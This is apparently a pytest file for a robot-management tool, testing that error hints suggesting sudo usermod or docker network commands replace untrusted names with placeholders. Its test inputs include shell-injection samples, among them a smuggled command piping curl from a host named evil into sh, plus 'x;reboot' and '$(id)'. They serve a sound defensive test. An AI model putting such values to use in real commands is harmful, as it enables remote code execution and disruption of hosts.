"""What a robot calls its user, in a command that somebody with sudo is to copy."""

from __future__ import annotations

import pytest

from robenv.engine.api.start_errors import explain_start_error
from robenv.errors import OperationFailed, RobotRefused
from robenv.remote.inventory import Robot
from robenv.remote.ssh_errors import SocketProbe, engine_refused


def refused(name: str) -> RobotRefused:
    """For a robot that says ``name`` when it is asked who the user is."""
    return engine_refused(Robot("arm", "192.0.2.1"), SocketProbe.of(f"there\n{name}\n".encode()), "")


def test_a_plain_name_is_told() -> None:
    error = refused("robot-1")
    assert "`sudo usermod -aG docker robot-1`" in error.hint
    assert "robot-1 may not open" in error.message
    assert "robenv_docker_host" in error.hint


@pytest.mark.parametrize(
    "name",
    ['\x1b]0;x\x07x;curl$IFS"evil"|sh', "x;reboot", "$(id)", "`id`", "\u202ehs", "a&b", "--help", "\u200bx", "ü"],
)
def test_what_a_shell_would_run_is_not(name: str) -> None:
    error = refused(name)
    assert "`sudo usermod -aG docker USER`" in error.hint
    assert error.message.isprintable()


@pytest.mark.parametrize(
    ("name", "shown"), [("lan", "lan"), ("x;reboot", "NAME"), ("$(id)", "NAME"), ("\x1b[2J", "NAME")]
)
def test_nor_what_an_engine_calls_a_network(name: str, shown: str) -> None:
    error = explain_start_error(OperationFailed(f"Could not start it: network {name} not found"), "picker")
    assert f"`docker network create {shown}`" in error.hint


@pytest.mark.parametrize(
    ("seen", "message", "hint"),
    [
        ("dev", "no engine listens at /var/run/docker.sock", "robenv_docker_host"),
        ("there dev", "dev may not open its engine's socket /var/run/docker.sock", "usermod"),
        ("there open answers dev", "its sshd does not forward connections", "AllowStreamLocalForwarding"),
        ("there open dev", "its engine does not answer", "systemctl status docker"),
    ],
)
def test_the_cause_is_what_was_seen(seen: str, message: str, hint: str) -> None:
    error = engine_refused(Robot("arm", "192.0.2.1"), SocketProbe.of(seen.encode()), "Connection reset by peer")
    assert error.message.startswith(f"arm: {message}")
    assert hint in error.hint
